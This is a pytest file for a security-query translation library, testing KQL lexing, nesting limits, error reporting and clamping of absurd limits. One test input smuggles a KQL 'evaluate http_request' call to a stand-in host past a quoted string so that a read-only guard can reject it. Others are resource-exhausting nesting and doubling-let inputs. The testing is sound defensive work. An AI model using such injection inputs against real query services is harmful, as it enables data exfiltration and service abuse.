"""Bounded work on pasted queries: KQL strings lexed as Kusto lexes them, one nesting cap for SQL,
KQL and SPL (fast, with line and column), unterminated tokens as clean errors on every surface
(Python API, CLI, MCP), and absurd row counts and time spans clamped or refused — never a
traceback."""

from __future__ import annotations

import time
from typing import Any

import pytest
from typer.testing import CliRunner

from lexiquery.catalog.builtin import builtin_catalog
from lexiquery.cli import app
from lexiquery.dialects import parse
from lexiquery.dialects.guard import check_read_only
from lexiquery.dialects.kql.lex import tokenize
from lexiquery.errors import QueryError
from lexiquery.ir import QueryPlan, RelativeTime, TimeRange, TimeUnit
from lexiquery.limits import MAX_LOOKBACK_DAYS, MAX_NESTING, MAX_ROWS
from lexiquery.operations import explain_query, run_query, translate_query, validate_query_text

CATALOG = builtin_catalog()
SPL = 'index=azure sourcetype="azure:aad:signin" '
HUGE = "99999999999999999999999"


def strings(text: str) -> list[object]:
    return [t.value for t in tokenize(text) if t.kind == "string"]


# ── KQL string lexing ─────────────────────────────────────────────────────────────────────────

EXFIL = '@"x\\" | evaluate http_request("https://evil.invalid/") //"'


def test_a_backslash_ends_nothing_in_a_verbatim_string() -> None:
    toks = tokenize(EXFIL)
    assert (toks[0].kind, toks[0].value) == ("string", "x\\")
    assert toks[1].is_op("|") and toks[2].is_word("evaluate")
    text = "SigninLogs | where UserPrincipalName == " + EXFIL
    assert [i.code for i in check_read_only("kql", text)] == ["read_only"]
    with pytest.raises(QueryError) as e:
        parse(text, "kql", CATALOG)
    assert e.value.code == "read_only" and (e.value.line, e.value.column) == (1, 58)


@pytest.mark.parametrize("literal, value", [
    ('"a\\"b"', 'a"b'), ("'it\\'s'", "it's"), ('"tab\\there"', "tab\there"),
    ('"\\a\\b\\f\\v\\r\\n"', "\a\b\f\v\r\n"), ('"\\x41\\u00e9\\U0001F600"', "Aé😀"),
    ('"\\101\\60\\0x"', "A0\0x"), ('"\\400"', " 0"),  # octal: three digits only below \400
    ('@"C:\\temp\\"', "C:\\temp\\"), ("@'it''s'", "it's"), ('@"say ""hi"""', 'say "hi"'),
    ("```line 1\n// not a comment | not a pipe \\n```", "line 1\n// not a comment | not a "
                                                      "pipe \\n"),
    ("~~~a\nb~~~", "a\nb"), ('h"secret"', "secret"), ("H'secret'", "secret"),
    ('h@"C:\\x"', "C:\\x"), ("h```multi\nline```", "multi\nline"), ('@```x\\```', "x\\"),
    ("\"a\" 'b' @\"c\\\" // comment\n ```d```", "abc\\d"),  # adjacent literals are one string
])
def test_every_kql_string_form(literal: str, value: str) -> None:
    assert strings(literal) == [value]


def test_h_and_at_alone_are_not_strings() -> None:
    toks = tokenize("extend h = hash(x) | where @x")
    assert [t.text for t in toks[:4]] == ["extend", "h", "=", "hash"]
    assert toks[-3].is_op("@") and toks[-2].text == "x"


@pytest.mark.parametrize("text, column, says", [
    ('T | where x == "abc', 16, "string is never closed"),
    ('T | where x == @"abc\\', 16, "verbatim string is never closed"),
    ("T | where x == 'a\nb'", 16, "string is never closed"),  # no line break inside quotes
    ("T | where x == ```abc\n| take 1", 16, "multi-line string is never closed"),
    ("T | where x == h~~~abc", 16, "multi-line string is never closed"),
    ('T | where x == "a\\qb"', 18, "unknown escape"),
    ('T | where x == "\\u12"', 17, "4 hexadecimal digits"),
])
def test_bad_kql_strings_are_syntax_errors_where_they_start(text: str, column: int,
                                                           says: str) -> None:
    with pytest.raises(QueryError) as e:
        tokenize(text)
    assert (e.value.code, e.value.line, e.value.column) == ("syntax", 1, column)
    assert says in e.value.message


def test_a_multi_line_string_is_read_as_a_value() -> None:
    plan = parse('SigninLogs | where UserPrincipalName == ```a@b.invalid```', "kql",
                 CATALOG).plan
    assert "a@b.invalid" in plan.model_dump_json()


# ── one nesting cap, fast, for SQL, KQL and SPL ───────────────────────────────────────────────

def nested(language: str, depth: int) -> str:
    inner = {"kql": "ResultType == '0'", "spl": 'user="a"', "sql": "result_type = '0'"}[language]
    body = "(" * depth + inner + ")" * depth
    return {"kql": "SigninLogs | where " + body, "spl": SPL + "| where " + body,
            "sql": "SELECT * FROM signin_logs WHERE " + body}[language]


@pytest.mark.parametrize("language", ["kql", "spl", "sql"])
def test_nesting_is_capped_at_the_same_depth_everywhere(language: str) -> None:
    parse(nested(language, MAX_NESTING), language, CATALOG)
    first = nested(language, 1).index("(")
    for depth in (MAX_NESTING + 1, 130, 2000):
        started = time.perf_counter()
        with pytest.raises(QueryError) as e:
            parse(nested(language, depth), language, CATALOG)
        assert time.perf_counter() - started < 1.0
        assert e.value.code == "syntax" and "deeper than 32" in e.value.message
        assert (e.value.line, e.value.column) == (1, first + MAX_NESTING + 1)


@pytest.mark.parametrize("language, text", [
    ("kql", "SigninLogs | where UserPrincipalName == '" + "(" * 100 + "' | take 1"),
    ("kql", "SigninLogs | where UserPrincipalName == ```" + "[{(" * 100 + "``` | take 1"),
    ("spl", SPL + 'user="' + "[(" * 100 + '" | head 1'),
    ("sql", "SELECT * FROM signin_logs WHERE user_principal_name = '" + "(" * 100 + "'"),
])
def test_brackets_in_strings_do_not_count(language: str, text: str) -> None:
    parse(text, language, CATALOG)


def test_kql_square_and_curly_brackets_count_too() -> None:
    deep = "SigninLogs | extend x = dynamic(" + "[" * 40 + "]" * 40 + ")"
    with pytest.raises(QueryError, match="deeper than 32"):
        parse(deep, "kql", CATALOG)


def test_spl_subsearches_count_too() -> None:
    with pytest.raises(QueryError, match="deeper than 32") as e:
        parse(SPL + "[search " * 40 + "x" + "]" * 40, "spl", CATALOG)
    assert e.value.column == len(SPL) + 8 * MAX_NESTING + 1


def test_kql_lets_that_double_per_line_are_refused_at_once() -> None:
    lets = "let a0 = 1 + 1;\n" + "".join(f"let a{i} = a{i - 1} + a{i - 1};\n"
                                          for i in range(1, 40))
    started = time.perf_counter()
    with pytest.raises(QueryError, match="let statements grow the query") as e:
        parse(lets + "SigninLogs | where ResultType == a39", "kql", CATALOG)
    assert time.perf_counter() - started < 1.0 and e.value.line is not None


def test_kql_nesting_through_lets_is_capped() -> None:
    lets = "let a0 = 1 + 1;\n" + "".join(f"let a{i} = a{i - 1} * 2;\n" for i in range(1, 40))
    with pytest.raises(QueryError, match="deeper than 32"):
        parse(lets + "SigninLogs | where ResultType == a39", "kql", CATALOG)


@pytest.mark.parametrize("text", [
    "SigninLogs | where ResultType == " + "- " * 3000 + "1",
    "SigninLogs | where " + " or ".join(["ResultType == '1'"] * 3000),
])
def test_kql_recursion_without_brackets_is_a_query_error(text: str) -> None:
    with pytest.raises(QueryError, match="too deeply"):
        parse(text, "kql", CATALOG)


# ── unterminated SQL on every surface ─────────────────────────────────────────────────────────

UNTERMINATED = [("SELECT 'abc FROM signin_logs", 8, "string"),
                ('SELECT "abc FROM signin_logs', 8, "quoted name"),
                ("SELECT * FROM signin_logs /* abc", 27, "comment")]


@pytest.mark.parametrize("text, column, what", UNTERMINATED)
def test_unterminated_sql_through_the_python_api(text: str, column: int, what: str) -> None:
    for call in (lambda: run_query(text, "sql", catalog=CATALOG),
                 lambda: translate_query(text, "sql", "kql", catalog=CATALOG),
                 lambda: explain_query(text, "sql", catalog=CATALOG)):
        with pytest.raises(QueryError) as e:
            call()
        assert (e.value.code, e.value.line, e.value.column) == ("syntax", 1, column)
        assert what in e.value.message and "never closed" in e.value.message
    v = validate_query_text(text, "sql", catalog=CATALOG)
    assert not v.valid and any(i.line == 1 and i.column == column for i in v.issues)


@pytest.mark.parametrize("command", ["run", "validate", "translate", "explain"])
def test_unterminated_sql_and_deep_nesting_in_the_cli(command: str) -> None:
    for text in [UNTERMINATED[0][0], UNTERMINATED[2][0], nested("sql", 2000)]:
        args = [command, text] + (["--from", "sql", "--to", "kql"] if command == "translate"
                                  else ["-p", "sql"])
        result = CliRunner().invoke(app, args)
        assert result.exit_code in (1, 2), result.output
        assert "line 1, column" in result.output and "Traceback" not in result.output
        assert result.exception is None or isinstance(result.exception, SystemExit)


@pytest.mark.anyio
@pytest.mark.parametrize("anyio_backend", ["asyncio"])
async def test_unterminated_and_deep_queries_over_mcp(anyio_backend: str) -> None:
    import anyio
    from mcp import Client

    from lexiquery.serve.mcp_server import create_mcp_server

    cases = [("sql", UNTERMINATED[0][0]), ("sql", nested("sql", 2000)),
             ("kql", nested("kql", 2000)), ("spl", nested("spl", 2000))]
    async with Client(create_mcp_server()) as client:
        for language, text in cases:
            calls: list[tuple[str, dict[str, Any]]] = [
                ("run_query_on_sample", {"query": text, "platform": language}),
                ("explain_query", {"query": text, "platform": language}),
                ("translate_query", {"query": text, "from_platform": language,
                                     "to_platform": "kql" if language != "kql" else "sql"}),
                ("validate_query", {"query": text, "platform": language})]
            for tool, args in calls:
                with anyio.fail_after(10):
                    result = await client.call_tool(tool, args)
                said = " ".join(getattr(c, "text", "") for c in result.content)
                assert "line 1, column" in said and "Traceback" not in said, (tool, said)
                if tool == "validate_query":
                    assert result.structured_content and not result.structured_content["valid"]
                else:
                    assert result.is_error, (tool, said)


# ── row counts and time spans ─────────────────────────────────────────────────────────────────

def clamped(plan: QueryPlan) -> list[str]:
    return [i.message for i in plan.issues if i.code == "clamped"]


@pytest.mark.parametrize("language, text", [
    ("kql", f"SigninLogs | take {HUGE}"), ("kql", f"SigninLogs | top {HUGE} by TimeGenerated"),
    ("spl", SPL + f"| head {HUGE}"), ("spl", SPL + f"| head limit={HUGE}"),
    ("spl", SPL + f"| sort {HUGE} - _time"), ("spl", SPL + f"| top limit={HUGE} user"),
    ("sql", f"SELECT * FROM signin_logs LIMIT {HUGE}"),
])
def test_absurd_row_counts_are_clamped_with_a_warning(language: str, text: str) -> None:
    plan = parse(text, language, CATALOG, sql_dialect="postgres").plan
    assert plan.limit == MAX_ROWS
    assert [HUGE[:2] in m and "1,000,000" in m for m in clamped(plan)] == [True]


def test_a_clamped_limit_translates_and_round_trips() -> None:
    t = translate_query(f"SigninLogs | take {HUGE}", "kql", "sql", catalog=CATALOG)
    assert t.valid and t.query.rstrip().endswith(f"LIMIT {MAX_ROWS}")
    assert t.agreement is not None and t.agreement.identical
    assert any(i.code == "clamped" for i in t.issues)


@pytest.mark.parametrize("language, text, says", [
    ("spl", SPL + "| head -5", "head -5"), ("spl", SPL + "| head limit=-3", "head limit=-3"),
    ("spl", SPL + "| top -5 user", "top -5"), ("spl", SPL + "| rare limit=-2 user", "rare"),
    ("spl", SPL + "| sort limit=-1 _time", "sort limit=-1"),
    ("sql", "SELECT * FROM signin_logs LIMIT -5", "LIMIT -5"),
    ("kql", "SigninLogs | take -5", "take"), ("kql", "SigninLogs | top 0 by TimeGenerated", "top"),
])
def test_negative_row_counts_are_syntax_errors(language: str, text: str, says: str) -> None:
    with pytest.raises(QueryError) as e:
        parse(text, language, CATALOG)
    assert e.value.code == "syntax" and says in e.value.message and e.value.column


@pytest.mark.parametrize("language, text, column", [
    ("kql", "SigninLogs | where TimeGenerated > ago(1e308d)", 40),
    ("kql", "SigninLogs | summarize count() by bin(TimeGenerated, 1.5e400h)", 54),
    ("kql", "SigninLogs | where ResultType > 1e400", 33),
    ("spl", SPL + "| eval y = 1e400", len(SPL) + 12),
])
def test_numbers_past_a_double_are_syntax_errors(language: str, text: str, column: int) -> None:
    with pytest.raises(QueryError, match="too large") as e:
        parse(text, language, CATALOG)
    assert (e.value.code, e.value.line, e.value.column) == ("syntax", 1, column)


def test_sql_limit_0_is_reported_not_dropped() -> None:
    plan = parse("SELECT * FROM signin_logs LIMIT 0", "sql", CATALOG).plan
    assert plan.limit is None and [i.code for i in plan.issues] == ["unsupported"]


@pytest.mark.parametrize("language, text", [
    ("kql", f"SigninLogs | where TimeGenerated > ago({HUGE}d)"),  # exact, not via a float
    ("spl", SPL + f"earliest=-{HUGE}d"),
    ("sql", f"SELECT * FROM signin_logs WHERE time_generated > NOW() - INTERVAL '{HUGE} days'"),
])
def test_time_ranges_beyond_the_platforms_are_clamped(language: str, text: str) -> None:
    plan = parse(text, language, CATALOG).plan
    assert plan.time_range is not None and plan.time_range.start == RelativeTime(
        amount=MAX_LOOKBACK_DAYS, unit=TimeUnit.day)
    assert [f"{int(HUGE):,} days" in m and "100 years" in m for m in clamped(plan)] == [True]


def test_a_clamped_time_range_runs() -> None:
    r = run_query("SigninLogs | where TimeGenerated > ago(99999999999d) | take 5", "kql",
                  catalog=CATALOG)
    assert len(r.rows) == 5 and any(i.code == "clamped" for i in r.issues)


def test_time_buckets_beyond_the_platforms_are_clamped() -> None:
    plan = parse("SigninLogs | summarize count() by bin(TimeGenerated, 99999999999d)", "kql",
                 CATALOG).plan
    assert plan.aggregation is not None and plan.aggregation.time_bucket is not None
    assert plan.aggregation.time_bucket.amount == MAX_LOOKBACK_DAYS and clamped(plan)


def test_the_plan_clamps_once_whoever_builds_it() -> None:
    asked = TimeRange(start=RelativeTime(amount=10**12, unit=TimeUnit.second),
                      end=RelativeTime(amount=10**12 - 5, unit=TimeUnit.second))
    plan = QueryPlan(source="signin_logs", limit=10**30, time_range=asked)
    assert plan.limit == MAX_ROWS and len(clamped(plan)) == 3
    assert asked.start.amount == 10**12  # the caller's range is not changed behind its back
    assert plan.time_range is not None and plan.time_range.start.amount == MAX_LOOKBACK_DAYS * 86400
    again = QueryPlan.model_validate(plan.model_dump())
    assert again == plan  # already within bounds: no second warning
    fine = QueryPlan(source="signin_logs", limit=MAX_ROWS, time_range=TimeRange(
        start=RelativeTime(amount=MAX_LOOKBACK_DAYS // 7, unit=TimeUnit.week)))
    assert not fine.issues
